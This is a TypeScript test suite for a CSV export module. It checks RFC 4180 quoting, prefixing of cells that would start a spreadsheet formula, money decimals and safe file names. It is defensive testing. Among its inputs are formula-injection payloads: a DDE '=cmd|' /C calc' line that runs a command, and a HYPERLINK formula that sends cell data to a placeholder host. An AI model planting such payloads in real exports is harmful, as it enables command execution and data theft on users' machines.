import fc from 'fast-check';
import { csvDecimal, csvFilename, sanitizeCell, toCsv } from '../../core/csv';
import { formatMinor, minorDigits, parseDecimal } from '../../core/money';
import type { Cell } from '../../core/table';

/**
 * A small RFC 4180 reader, written independently of the writer: the file must start with a BOM and every
 * record must end in CRLF. Returns the records as strings, exactly as a spreadsheet would receive them.
 */
function parseCsv(file: string): string[][] {
  expect(file.startsWith('\uFEFF')).toBe(true);
  const text = file.slice(1);
  const records: string[][] = [];
  let record: string[] = [];
  let fieldText = '';
  let i = 0;
  let atFieldStart = true;
  while (i < text.length) {
    if (atFieldStart && text[i] === '"') {
      // Quoted field: runs to the closing quote; "" is one quote.
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            fieldText += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        fieldText += text[i++];
      }
      atFieldStart = false;
      if (i < text.length && text[i] !== ',' && text[i] !== '\r')
        throw new Error(`text after a closing quote at ${i}`);
      continue;
    }
    const ch = text[i];
    if (ch === ',') {
      record.push(fieldText);
      fieldText = '';
      atFieldStart = true;
      i++;
    } else if (ch === '\r') {
      if (text[i + 1] !== '\n') throw new Error(`bare CR at ${i}`);
      record.push(fieldText);
      records.push(record);
      record = [];
      fieldText = '';
      atFieldStart = true;
      i += 2;
    } else {
      if (ch === '\n' || ch === '"') throw new Error(`unquoted ${JSON.stringify(ch)} at ${i}`);
      fieldText += ch;
      atFieldStart = false;
      i++;
    }
  }
  if (fieldText !== '' || record.length) throw new Error('last record has no CRLF');
  return records;
}

/**
 * The documented rule, stated here on its own: a string is prefixed with ' when it starts with tab, CR or
 * NUL, or when its first non-whitespace character is = + - @ or a full-width form of one.
 */
function shouldPrefix(s: string): boolean {
  return /^[\t\r\0]/.test(s) || /^\s*[=+\-@＝＋－＠]/.test(s);
}

describe('sanitizeCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A2)', "'@SUM(A1:A2)"],
    ['\t=1+1', "'\t=1+1"],
    ['\tplain after a tab', "'\tplain after a tab"],
    ['\r=1+1', "'\r=1+1"],
    ['\0x', "'\0x"],
    ['=HYPERLINK("http://example.invalid/?"&A1)', '\'=HYPERLINK("http://example.invalid/?"&A1)'],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['-', "'-"],
    // Whitespace before the trigger: prefixed, because importers that trim would evaluate it (see core/csv.ts).
    [' =1+1', "' =1+1"],
    ['   @x', "'   @x"],
    ['\u00A0=1', "'\u00A0=1"],
    ['\n+1', "'\n+1"],
    ['\u3000-1', "'\u3000-1"],
    // Full-width triggers.
    ['＝1+1', "'＝1+1"],
    ['＋1', "'＋1"],
    ['－1', "'－1"],
    ['＠x', "'＠x"],
  ])('prefixes %j', (input, expected) => {
    expect(sanitizeCell(input)).toBe(expected);
  });

  it.each([
    '',
    'plain',
    ' plain',
    'a=b',
    '1-2',
    'user@example.com',
    "'=already quoted",
    '12.5',
    '%',
    '~=1',
    'CUST-1',
  ])('leaves %j alone', (input) => {
    expect(sanitizeCell(input)).toBe(input);
  });
});

describe('toCsv', () => {
  it('writes a BOM, a header line and CRLF after every record', () => {
    expect(toCsv(['Credit ID', 'Amount'], [['CR-1', 12.5]])).toBe('\uFEFFCredit ID,Amount\r\nCR-1,12.5\r\n');
    expect(toCsv(['Only'], [])).toBe('\uFEFFOnly\r\n');
  });

  it('quotes fields with comma, quote, CR or LF and doubles quotes (RFC 4180)', () => {
    const csv = toCsv(
      ['a', 'b', 'c', 'd', 'e'],
      [['x,y', 'say "hi"', 'line1\nline2', 'cr\rhere', 'crlf\r\nhere']],
    );
    expect(csv.split('\r\n')[1]).toBe('"x,y","say ""hi""","line1\nline2","cr\rhere","crlf');
    expect(parseCsv(csv)[1]).toEqual(['x,y', 'say "hi"', 'line1\nline2', 'cr\rhere', 'crlf\r\nhere']);
  });

  it('writes numbers as numbers (a negative number is not prefixed), booleans and blanks', () => {
    const csv = toCsv(
      ['n', 'neg', 'big', 'bool', 'no', 'empty', 'nan'],
      [[1234.56, -5, 1e21, true, false, null, Number.NaN]],
    );
    expect(parseCsv(csv)[1]).toEqual(['1234.56', '-5', '1e+21', 'TRUE', 'FALSE', '', '']);
  });

  it('prefixes formula-like strings in rows and headers, and quotes what needs it', () => {
    const csv = toCsv(['=evil header'], [['=1+1'], ['-5'], ['=A1,"x"']]);
    expect(csv).toBe('\uFEFF\'=evil header\r\n\'=1+1\r\n\'-5\r\n"\'=A1,""x"""\r\n');
  });

  it('pads short rows to the header width and refuses rows longer than it', () => {
    expect(parseCsv(toCsv(['a', 'b', 'c'], [['only a']]))[1]).toEqual(['only a', '', '']);
    expect(() => toCsv(['a'], [['1', '2']])).toThrow(/row 1 has 2 cells but there are only 1 headers/);
  });

  it('keeps Arabic, CJK, emoji and combining characters intact', () => {
    const cells = ['رصيد العميل', '客户积分', 'クレジット', '💳🚀👩🏽‍💻', 'é (e + U+0301)', '🇯🇵'];
    expect(parseCsv(toCsv(['a', 'b', 'c', 'd', 'e', 'f'], [cells]))[1]).toEqual(cells);
  });

  it('writes a 50,000-character cell whole', () => {
    const long = 'ab,"c"\n'.repeat(7143).slice(0, 50000);
    const parsed = parseCsv(toCsv(['long'], [[long]]));
    expect(parsed[1][0]).toHaveLength(50000);
    expect(parsed[1][0]).toBe(long);
  });

  const tricky = fc.constantFrom(
    '=',
    '+',
    '-',
    '@',
    '\t',
    '\r',
    '\n',
    '\0',
    ' ',
    '"',
    ',',
    '\r\n',
    '＝',
    "'",
    '\u00A0',
  );
  const stringCell = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 30 }),
    fc
      .tuple(fc.array(tricky, { maxLength: 3 }), fc.string({ maxLength: 10 }))
      .map(([lead, rest]) => lead.join('') + rest),
  );
  const cellArb: fc.Arbitrary<Cell> = fc.oneof(
    stringCell,
    fc.double({ noNaN: true, noDefaultInfinity: true }),
    fc.integer({ min: -1e13, max: 1e13 }),
    fc.boolean(),
    fc.constant(null),
  );

  it('property: parsing the CSV gives back every cell (strings after the documented prefix)', () => {
    fc.assert(
      fc.property(
        fc
          .integer({ min: 1, max: 5 })
          .chain((width) =>
            fc.tuple(
              fc.array(stringCell, { minLength: width, maxLength: width }),
              fc.array(fc.array(cellArb, { minLength: width, maxLength: width }), { maxLength: 8 }),
            ),
          ),
        ([headers, rows]) => {
          const parsed = parseCsv(toCsv(headers, rows));
          expect(parsed).toHaveLength(rows.length + 1);
          const check = (cell: Cell, got: string) => {
            if (typeof cell === 'string') expect(got).toBe(shouldPrefix(cell) ? `'${cell}` : cell);
            else if (typeof cell === 'number')
              expect(Object.is(Number(got), cell === 0 ? 0 : cell)).toBe(true);
            else if (typeof cell === 'boolean') expect(got).toBe(cell ? 'TRUE' : 'FALSE');
            else expect(got).toBe('');
          };
          headers.forEach((h, c) => check(h, parsed[0][c]));
          rows.forEach((row, r) => row.forEach((cell, c) => check(cell, parsed[r + 1][c])));
        },
      ),
      { numRuns: 300 },
    );
  });

  it('property: no field of the file starts a formula', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(stringCell, { minLength: 2, maxLength: 2 }), { maxLength: 8 }),
        (rows) => {
          for (const record of parseCsv(toCsv(['a', 'b'], rows))) {
            for (const f of record) expect(/^\s*[=+\-@＝＋－＠]|^[\t\r\0]/.test(f)).toBe(false);
          }
        },
      ),
    );
  });
});

describe('money in a CSV (csvDecimal)', () => {
  it('writes any amount in its currency’s decimals, as a number: unquoted, unprefixed, read back exactly', () => {
    fc.assert(
      fc.property(
        fc.integer({ min: -1e12, max: 1e12 }),
        fc.constantFrom('USD', 'JPY', 'BHD', 'EUR'),
        (minor, currency) => {
          const text = formatMinor(minor, currency);
          const line = toCsv(['Amount'], [[csvDecimal(text)]]).split('\r\n')[1];
          expect(line).toBe(text); // no quote, no formula prefix on a negative one
          const decimals = line.split('.')[1] ?? '';
          expect(decimals.length).toBe(minorDigits(currency)); // 732.60, never a float's 732.6
          expect(parseDecimal(line, currency)).toBe(minor);
        },
      ),
    );
  });

  it('refuses text that is not a plain decimal: a caller bug, never a cell to defuse', () => {
    for (const bad of ['=1+1', '1,234.56', '', '-', '1e5', ' 1.00'])
      expect(() => csvDecimal(bad)).toThrow(/CSV money must be a decimal/);
  });
});

describe('csvFilename', () => {
  it('joins the parts and the date', () => {
    expect(csvFilename(['Credits', 'status=ASSIGNED'], '2026-11-26')).toBe(
      'Credits - status=ASSIGNED - 2026-11-26.csv',
    );
    expect(csvFilename(['Credits'], '2026-11-26', 'xlsx')).toBe('Credits - 2026-11-26.xlsx');
  });

  it('replaces characters illegal on Windows or macOS and drops leading dots and trailing dots/spaces', () => {
    expect(csvFilename(['Credits', 'service=EC2/Linux: "spot" <x>|y?*\\z'], '2026-11-26')).toBe(
      'Credits - service=EC2_Linux_ _spot_ _x__y___z - 2026-11-26.csv',
    );
    expect(csvFilename(['..hidden', 'trailing. ', 'tab\there', 'new\nline'], '2026-11-26')).toBe(
      'hidden - trailing - tab here - new line - 2026-11-26.csv',
    );
  });

  it('falls back to "export" and avoids Windows reserved names', () => {
    expect(csvFilename([], '')).toBe('export.csv');
    expect(csvFilename(['', ' / '], '')).toBe('_.csv');
    expect(csvFilename(['CON'], '')).toBe('_CON.csv');
    expect(csvFilename(['nul'], '')).toBe('_nul.csv');
  });

  it('caps long names but keeps the date and the extension, without splitting characters', () => {
    const name = csvFilename(['Credits', 'description=' + '💳'.repeat(200)], '2026-11-26');
    expect(name.endsWith(' - 2026-11-26.csv')).toBe(true);
    expect(name).toContain('…');
    expect(Buffer.byteLength(name, 'utf8')).toBeLessThanOrEqual(150);
    expect(name).not.toMatch(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])/); // no lone high surrogate
  });

  it('property: always a legal, bounded name that ends in the extension', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: 'binary', maxLength: 80 }), { maxLength: 5 }),
        fc.string({ maxLength: 20 }),
        (parts, date) => {
          const name = csvFilename(parts, date);
          expect(name).toMatch(/\.csv$/);
          // eslint-disable-next-line no-control-regex
          expect(name).not.toMatch(/[<>:"/\\|?*\u0000-\u001F\u007F]/);
          expect(name).not.toMatch(/^[.\s]/);
          expect(name.slice(0, -4)).not.toMatch(/[.\s]$/);
          expect(Buffer.byteLength(name, 'utf8')).toBeLessThanOrEqual(150);
        },
      ),
    );
  });
});
